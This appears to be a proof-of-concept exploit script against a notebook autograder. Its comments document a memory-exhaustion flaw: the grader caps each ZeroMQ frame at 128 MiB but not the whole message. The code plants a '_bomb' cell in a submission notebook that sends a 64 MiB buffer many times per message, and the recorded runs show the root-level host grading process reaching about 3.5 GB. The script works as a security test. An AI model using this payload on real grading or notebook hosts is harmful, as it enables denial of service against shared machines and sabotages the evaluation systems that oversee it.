# a01 (root): host memory of the grading process, through the kernel's own iopub socket.
# The grader caps each ZeroMQ frame from a kernel at 128 MiB (zmq.MAXMSGSIZE) and caps outputs *after*
# jupyter_client has received and deserialized a message. A message may carry any number of buffer frames;
# the kernel sends the same 64 MiB bytes object N times (zero copy: the kernel holds 64 MiB), the grader's
# process (host, root, no cgroup) receives N x 64 MiB at once. Untouched release otherwise (scores 0 anyway).
# RESULT (root, 05:10 UTC): FRAMES=24 REPEAT=2: the grading child (`grader.forkserver`, host side, root, no cgroup)
# peaked at 3485 MB RSS while the kernel held 64 MiB; a run without the payload peaks at ~360 MB (same script,
# payload in the locked setup cell, which nbgrader restores). Each message of 24 frames was accepted whole:
# the 128 MiB cap is per ZeroMQ frame, not per message. Linear in FRAMES: 1000 frames = 128 GB on the host.
# Second run (FRAMES=56 REPEAT=1, a01_frames56.out.txt, 05:15 UTC): peak 3779 MB in the grading child for one
# message of 56 x 64 MiB = 3.5 GiB (the kernel held 64 MiB): the host-side cost is the whole message, uncapped.
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from monitor import ac, grade_watched

FRAMES = int(os.environ.get("FRAMES", "24"))      # 24 x 64 MiB = 1.5 GiB per message (kept modest: shared machine)
REPEAT = int(os.environ.get("REPEAT", "2"))
PAYLOAD = f"""
def _bomb():
    k = get_ipython().kernel
    big = bytes(64 << 20)
    for _ in range({REPEAT}):
        k.session.send(k.iopub_socket, "display_data", {{"data": {{"text/plain": "x"}}, "metadata": {{}}, "transient": {{}}}},
                       parent=k.get_parent(), buffers=[big] * {FRAMES})
    import time; time.sleep(8)
_bomb()
"""
dest = ac.make_course("r5-a01", {"bomber": ac.notebook(append={"training_memory": PAYLOAD})})
grade_watched(dest)
ac.show(dest)
